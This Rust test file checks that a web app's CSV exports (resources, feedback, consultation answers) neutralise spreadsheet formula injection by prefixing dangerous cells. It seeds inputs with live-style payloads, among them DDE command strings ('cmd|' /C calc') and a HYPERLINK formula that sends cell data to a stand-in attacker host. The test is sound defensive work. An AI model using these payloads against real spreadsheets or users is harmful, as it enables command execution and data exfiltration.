//! Spreadsheet formulas in the CSV exports.

use super::*;

// ── Spreadsheet formulas in the CSV exports ──────────────────────────────

#[tokio::test]
async fn csv_exports_neutralise_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(&dir).await;
    let admin = session_cookie(&state, "sjef", Role::Admin).await;

    // A resource, an organisation and a category value that start like formulas.
    let (status, _, html) = post(
        &state,
        "/redaktor/organisasjoner/ny",
        Some(&admin),
        &form(&[
            ("name", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("slug", "formel-org"),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    let (status, location, _) = post(
        &state,
        "/redaktor/kategorier/malgruppe/ny",
        Some(&admin),
        &form(&[("label", "-2+3 formel")]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let _ = location;
    let value_key = one(
        &state,
        "SELECT key FROM facet_value WHERE label = ?1",
        "-2+3 formel",
    )
    .await;
    let title = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")";
    let body = form(&[
        ("title", title),
        ("slug", "formel-ressurs"),
        ("summary", "+SUM(1,2)"),
        ("status", "published"),
        ("f.type", "veileder"),
        ("f.nivaa", "system"),
        ("f.malgruppe", &value_key),
        ("org", "formel-org"),
    ]);
    let (status, _, html) = post(&state, "/redaktor/ressurser/ny", Some(&admin), &body).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    state.catalogue.invalidate();

    // Feedback and consultation answers that start like formulas.
    let draft = app::domain::feedback::FeedbackDraft {
        kind: "forslag".into(),
        title: "=1+1".into(),
        url: "https://evil.example/".into(),
        message: "@SUM(A1:A9)".into(),
        name: "-1+1".into(),
        page: "/ressurser".into(),
        ..Default::default()
    };
    let reference = app::db::feedback::submit(&state.pool, &draft, 30)
        .await
        .unwrap();
    let ids = open_round(&state, &admin, "formel-runde", "=Runde", "", "+Spørsmål?").await;
    let (status, _, _) = post(
        &state,
        "/innspill/formel-runde",
        None,
        &form(&[(&format!("q{}", ids[0]), "=cmd|' /C calc'!A0")]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);

    let mut f = Findings::default();
    for (uri, sep, must) in [
        (
            "/ressurser.csv".to_string(),
            ',',
            vec!["HYPERLINK", "SUM(1,2)", "-2+3 formel", "@SUM(1+1)"],
        ),
        (
            "/redaktor/tilbakemeldinger.csv".to_string(),
            ';',
            vec![reference.as_str(), "=1+1", "@SUM(A1:A9)", "-1+1"],
        ),
        (
            "/redaktor/innspill/formel-runde/svar.csv".to_string(),
            ';',
            vec!["+Spørsmål?", "=cmd|"],
        ),
    ] {
        let (status, csv) = get_with(&state, &uri, &admin).await;
        assert_eq!(status, StatusCode::OK, "{uri}");
        for m in must {
            assert!(csv.contains(m), "{uri} lacks {m:?}: {csv}");
        }
        // The finding this test exists for: no cell may start with = + - @
        // (a spreadsheet would run it as a formula); the code prefixes `'`.
        for row in csv_rows(&csv, sep) {
            for cell in row {
                f.check(!cell.starts_with(['=', '+', '-', '@']), || {
                    format!("CSV FORMULA INJECTION: {uri}: cell {cell:?} starts like a formula")
                });
            }
        }
    }
    f.finish("CSV exports");
}
